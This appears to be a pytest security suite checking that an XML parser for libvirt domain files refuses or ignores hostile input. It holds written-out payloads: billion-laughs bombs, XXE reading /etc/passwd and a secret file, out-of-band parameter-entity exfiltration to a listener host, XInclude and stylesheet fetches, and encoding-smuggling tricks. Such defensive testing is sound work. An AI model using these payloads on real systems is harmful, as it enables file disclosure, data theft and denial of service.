"""What XML parsers have fallen for: each is refused or harmless, by file and by network.

Most are of the kind the W3C's conformance suite and libxml2's regression tests hold, put into a domain.
"""

from __future__ import annotations

import base64
import socket
import threading
import time
import tracemalloc
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.pipeline import Choice, exercise
from tui.convert import to_vmx
from tui.disks import Policy
from tui.formats.domain_xml import DomainDocument
from tui.formats.domainsnapshot import SnapshotDocument
from tui.formats.errors import FormatError
from tui.formats.opening import open_document

SECRET = "the-secret-of-this-file"
XINCLUDE = "xmlns:xi='http://www.w3.org/2001/XInclude'"
DISK = "<disk type='file'><source file='/a'/><target dev='vda'/></disk>"
# Where a parser that fell for it would put what it fetched.
INTO = "<domain type='kvm'><name>&x;</name><devices>" + DISK + "</devices></domain>"
PLAIN = "<domain type='kvm'><name>web</name><devices>" + DISK + "</devices></domain>"


class Listener:
    """A server on this machine, told of by the attacks, and whether anybody came."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self.visits = 0
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                visitor, _ = self._socket.accept()
            except OSError:
                return
            self.visits += 1
            visitor.sendall(f"HTTP/1.0 200 OK\r\n\r\n<!ENTITY x '{SECRET}'>".encode())
            visitor.close()

    def close(self) -> None:
        self._socket.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    one = Listener()
    yield one
    one.close()


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    (tmp_path / "evil.dtd").write_text(f"<!ENTITY x '{SECRET}'>")
    (tmp_path / "disks.xml").write_text(f"<disk type='file'><source file='{SECRET}'/></disk>")
    return path


def _laughs(levels: int) -> str:
    entities = "".join(f"<!ENTITY e{n} '{f'&e{n - 1};' * 10}'>" for n in range(1, levels))
    return f"<!DOCTYPE d [<!ENTITY e0 'ha'>{entities}<!ENTITY x '&e{levels - 1};'>]>"


# A prologue before INTO; {file} is a file that must not be read, {host} a server that must not be visited.
REFUSED = {
    "billion laughs": _laughs(10),
    "quadratic blow-up": f"<!DOCTYPE d [<!ENTITY x '{'A' * 50_000}'>]>",
    "recursive entities": "<!DOCTYPE d [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>",
    "internal entity": f"<!DOCTYPE d [<!ENTITY x '{SECRET}'>]>",
    "external entity by file": "<!DOCTYPE d [<!ENTITY x SYSTEM 'file://{file}'>]>",
    "external entity by path": "<!DOCTYPE d [<!ENTITY x SYSTEM '{file}'>]>",
    "external entity by http": "<!DOCTYPE d [<!ENTITY x SYSTEM 'http://{host}/x'>]>",
    "external entity by ftp": "<!DOCTYPE d [<!ENTITY x SYSTEM 'ftp://{host}/x'>]>",
    "external entity by public identifier": "<!DOCTYPE d [<!ENTITY x PUBLIC '-//X' 'http://{host}/x'>]>",
    "external entity from a device": "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///dev/zero'>]>",
    "external entity from the password file": "<!DOCTYPE d [<!ENTITY x SYSTEM '/etc/passwd'>]>",
    "external DTD by file": "<!DOCTYPE d SYSTEM 'file://{folder}/evil.dtd'>",
    "external DTD by http": "<!DOCTYPE d SYSTEM 'http://{host}/evil.dtd'>",
    "external DTD by public identifier": "<!DOCTYPE d PUBLIC '-//W3C//DTD' 'http://{host}/evil.dtd'>",
    "parameter entity by http": "<!DOCTYPE d [<!ENTITY % p SYSTEM 'http://{host}/evil.dtd'> %p;]>",
    "parameter entity by file": "<!DOCTYPE d [<!ENTITY % p SYSTEM 'file://{folder}/evil.dtd'> %p;]>",
    "parameter entity that builds another": (
        "<!DOCTYPE d [<!ENTITY % f SYSTEM 'file://{file}'><!ENTITY % e \"<!ENTITY &#37; s SYSTEM "
        "'http://{host}/?%f;'>\"> %e; %s;]>"
    ),
    "parameter entity laughs": (
        "<!DOCTYPE d [<!ENTITY % a 'ha'><!ENTITY % b '&#37;a;&#37;a;'>"
        "<!ENTITY % c '&#37;b;&#37;b;'> %c; <!ENTITY x 'x'>]>"
    ),
    "unparsed entity": "<!DOCTYPE d [<!NOTATION n SYSTEM '{file}'><!ENTITY x SYSTEM '{file}' NDATA n>]>",
    "attribute defaults": "<!DOCTYPE d [<!ATTLIST disk snapshot CDATA 'no'><!ENTITY x 'x'>]>",
    "conditional section": "<!DOCTYPE d [<![INCLUDE[<!ENTITY x 'x'>]]>]>",
    "an empty DOCTYPE": "<!DOCTYPE domain>",
    "a DOCTYPE with blanks and line ends": "<!DOCTYPE\n\t d\r\n [\n<!ENTITY x 'x'> \n]\n >",
    "a DOCTYPE after a comment": "<!-- <domain/> --><?p?><!DOCTYPE d [<!ENTITY x 'x'>]>",
    "a DOCTYPE said to be standalone": "<?xml version='1.0' standalone='yes'?><!DOCTYPE d [<!ENTITY x 'x'>]>",
    "an entity nobody declared": "",
}


def _filled(text: str, secret: Path, listener: Listener) -> str:
    host = f"127.0.0.1:{listener.port}"
    return text.replace("{file}", str(secret)).replace("{folder}", str(secret.parent)).replace("{host}", host)


def _refusal(data: bytes) -> FormatError:
    with pytest.raises(FormatError) as caught:
        open_document(data)
    assert SECRET not in str(caught.value)
    assert caught.value.remedy
    return caught.value


@pytest.mark.parametrize("attack", REFUSED)
def test_an_attack_by_document_type_or_entity_is_refused(
    attack: str, secret: Path, listener: Listener
) -> None:
    text = _filled(REFUSED[attack], secret, listener) + INTO
    tracemalloc.start()
    start = time.perf_counter()
    refusal = _refusal(text.encode())
    assert time.perf_counter() - start < 1
    assert tracemalloc.get_traced_memory()[1] < 4_000_000
    tracemalloc.stop()
    if "<!DOCTYPE" in text:
        assert "DOCTYPE" in refusal.what
    snapshot = (
        _filled(REFUSED[attack], secret, listener) + "<domainsnapshot><name>&x;</name></domainsnapshot>"
    )
    with pytest.raises(FormatError):
        SnapshotDocument(snapshot.encode())
    assert listener.visits == 0


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_a_bomb_in_another_encoding_is_refused_too(codec: str) -> None:
    mark = {"utf-16-le": "\ufeff", "utf-16-be": "\ufeff"}.get(codec, "")
    assert "DOCTYPE" in _refusal((mark + _laughs(10) + INTO).encode(codec)).what


# What is opened, and stays text that nobody obeys.
HARMLESS = {
    "XInclude of text": f"<xi:include {XINCLUDE} href='file://{{file}}' parse='text'/>",
    "XInclude of XML": f"<xi:include {XINCLUDE} href='{{folder}}/disks.xml'/>",
    "XInclude by http": f"<xi:include {XINCLUDE} href='http://{{host}}/x'/>",
    "XInclude with a fallback": (
        f"<xi:include {XINCLUDE} href='http://{{host}}/x'><xi:fallback>"
        "<xi:include href='{file}' parse='text'/></xi:fallback></xi:include>"
    ),
    "a style sheet": "<?xml-stylesheet type='text/xsl' href='http://{host}/x.xsl'?>",
    "an instruction that looks like a disk": "<?disk <disk><source file='b'/></disk> ?>",
    "a CDATA section with a disk": "<![CDATA[<disk><source file='b'/></disk>]]>",
    "a comment with a DOCTYPE": "<!-- <!DOCTYPE d [<!ENTITY x SYSTEM 'file://{file}'>]> -->",
    "a schema location": (
        "<a xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='u http://{host}/s.xsd'/>"
    ),
    "a base": "<a xml:base='http://{host}/'><b href='x'/></a>",
    "an SVG script": "<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'><script href='http://{host}/'/></svg>",
    "a disk of another namespace": "<disk xmlns='http://{host}/'><source file='b'/></disk>",
    "a prefix bound to another name": "<x:disk xmlns:x='disk'><x:source file='b'/></x:disk>",
    "a thousand namespaces": "".join(f"<a{n} xmlns:p{n}='urn:{n}'/>" for n in range(1000)),
    "a namespace name of 100,000 letters": "<a xmlns:p='" + "u" * 100_000 + "'/>",
}


@pytest.mark.parametrize("attack", HARMLESS)
def test_markup_that_asks_to_fetch_or_run_is_text(attack: str, secret: Path, listener: Listener) -> None:
    inside = _filled(HARMLESS[attack], secret, listener)
    data = PLAIN.replace(DISK, inside + DISK + inside).encode()
    assert exercise(data, Choice(7))
    document = open_document(data)
    assert [disk.source for disk in document.disks] == ["/a"]
    edited = document.with_policy(0, Policy(snapshot=False, persistent=True))
    assert edited.data.count(inside.encode()) == 2
    assert isinstance(document, DomainDocument)
    converted = to_vmx(document)
    assert SECRET not in converted.text
    assert all(SECRET not in f"{loss.key}{loss.value}{loss.why}" for loss in converted.losses)
    assert listener.visits == 0


@pytest.mark.parametrize(
    ("inside", "names"),
    [
        ("<name>&#x2028;&#x9b;</name>", "\u2028\x9b"),
        ("<name>&lt;/name&gt;</name>", "</name>"),
        ("<name><![CDATA[</name>]]></name>", "</name>"),
        ("<name><!-- a -->b</name>", ""),
    ],
)
def test_references_and_sections_are_read_as_what_they_stand_for(inside: str, names: str) -> None:
    assert open_document(f"<domain>{inside}</domain>".encode()).configuration.name == names


# Encodings that lie

_UTF7 = "+ADw-disk snapshot='no'+AD4-"


@pytest.mark.parametrize(
    "data",
    [
        b"<?xml version='1.0' encoding='UTF-7'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='utf-7'?><domain>" + _UTF7.encode() + b"</domain>",
        b"<?xml version='1.0' encoding='UTF-16'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='UTF-32'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='UCS-4'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='EBCDIC-CP-US'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='idna'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='punycode'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='rot13'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='zlib_codec'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='base64'?>" + base64.b64encode(PLAIN.encode()),
        b"<?xml version='1.0' encoding='unicode_escape'?><domain>\\x3cdisk/></domain>",
        b"<?xml version='1.0' encoding='hz'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='iso-2022-jp'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='../../x'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='" + b"A" * 100_000 + b"'?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding=''?>" + PLAIN.encode(),
        b"<?xml version='1.0' encoding='utf-8'?>" + PLAIN.replace("web", "\xfc").encode("latin-1"),
        PLAIN.encode("utf-16-le"),
        PLAIN.encode("utf-32"),
        b"\xff\xfe" + PLAIN.encode(),
        b"\xfe\xff" + PLAIN.encode("utf-16-le"),
        b"\xff\xfe" + PLAIN.encode("utf-16-le") + b"<",
        b"\xff\xfe" + b"\x00\xd8" + PLAIN.encode("utf-16-le"),
        b"\xef\xbb\xbf\xef\xbb\xbf" + PLAIN.encode(),
        PLAIN.replace("web", "w\udc80b").encode("utf-8", "surrogateescape"),
        PLAIN.encode().replace(b"web", b"\xc0\xbcdisk/\xc0\xbe"),
        PLAIN.encode().replace(b"web", b"\xe0\x80\xbc"),
        PLAIN.encode().replace(b"web", b"\xed\xa0\x80"),
        PLAIN.encode().replace(b"web", b"\xf5\x80\x80\x80"),
        PLAIN.encode().replace(b"web", b"\x1b[2J"),
        PLAIN.encode().replace(b"web", b"&#27;[2J"),
        PLAIN.encode().replace(b"web", b"&#0;"),
        PLAIN.encode().replace(b"web", b"&#xD800;"),
        PLAIN.encode().replace(b"web", b"&#x110000;"),
        PLAIN.encode().replace(b"web", b"&#xFFFE;"),
        PLAIN.encode().replace(b"web", b"\xef\xbf\xbe"),
    ],
)
def test_an_encoding_that_lies_or_hides_markup_is_refused(data: bytes) -> None:
    refusal = _refusal(data)
    assert len(str(refusal)) < 400


@pytest.mark.parametrize(
    "declared",
    [
        "<?xml version='1.0' encoding='UTF-8'?>",
        "<?xml version='1.0' encoding='ISO-8859-1'?>",
        "<?xml version='1.0' encoding='GBK'?>",
        "<?xml version='1.0' encoding='UTF-7'?>",
        "<?xml version='1.0'?>",
    ],
)
def test_a_byte_order_mark_counts_more_than_what_is_declared(declared: str) -> None:
    document = open_document((declared + PLAIN).encode("utf-16"))
    assert [disk.source for disk in document.disks] == ["/a"]


def test_markup_in_utf_7_is_letters() -> None:
    document = open_document(PLAIN.replace("web", _UTF7.replace("<", "")).encode())
    assert len(document.disks) == 1
    assert document.configuration.name == _UTF7


def test_a_multibyte_letter_hides_no_markup() -> None:
    """In GBK the second byte of a letter may be an ASCII one; a reader by bytes would see a tag end there."""
    text = "<?xml version='1.0' encoding='GBK'?>" + PLAIN.replace("web", "\u4e02\u8140")
    document = open_document(text.encode("gbk"))
    assert document.configuration.name == "\u4e02\u8140"
    assert len(document.disks) == 1


@pytest.mark.parametrize("length", [1, 199, 200, 201, 5000])
def test_blanks_before_the_encoding_do_not_make_two_readers_differ(length: int) -> None:
    """A declared encoding that only one reader finds would be one document to us and another to libvirt."""
    text = f"<?xml version='1.0'{' ' * length}encoding='ISO-8859-1'?>{PLAIN.replace('web', chr(0xFC))}"
    try:
        document = open_document(text.encode("latin-1"))
    except FormatError:
        return
    assert document.configuration.name == "\xfc"


@pytest.mark.parametrize(
    "xml",
    [
        "<?xml version='2.0'?>" + PLAIN,
        "<?xml version='1.0'?><?xml version='1.0'?>" + PLAIN,
        " <?xml version='1.0'?>" + PLAIN,
        "<!doctype d []>" + PLAIN,
        "<!DocType d []>" + PLAIN,
        "<!DOC\0TYPE d []>" + PLAIN,
        "<!ENTITY x 'x'>" + PLAIN,
        "<domain xmlns='urn:other'><devices>" + DISK + "</devices></domain>",
        "<x:domain xmlns:x='urn:other'><devices>" + DISK + "</devices></x:domain>",
        "<x:domain><devices/></x:domain>",
        "<domain xmlns:x='a' xmlns:y='a'><devices><disk x:a='1' y:a='2'/></devices></domain>",
        "<domain xmlns:xml='urn:x'/>",
        "<domain xmlns:xmlns='urn:x'/>",
        "<domain xmlns:x=''/>",
        "<domain a='1' a='2'/>",
        "<domain a='<'/>",
        "<domain><name>]]></name></domain>",
        "<domain><!-- a -- b --></domain>",
        "<domain><?xml x?></domain>",
        "<domain/><domain/>",
        "<domain/>text",
        "<domain></DOMAIN>",
    ],
)
def test_what_is_no_domain_or_no_xml_is_refused(xml: str) -> None:
    _refusal(xml.encode())


@pytest.mark.parametrize(
    "start", ["", "<?xml version='1.0'?>", "<?xml version='1.1'?>", "\ufeff", "<!-- > --><?p > ?>"]
)
def test_the_same_machine_without_an_attack_opens(start: str) -> None:
    assert [disk.source for disk in open_document((start + PLAIN).encode()).disks] == ["/a"]
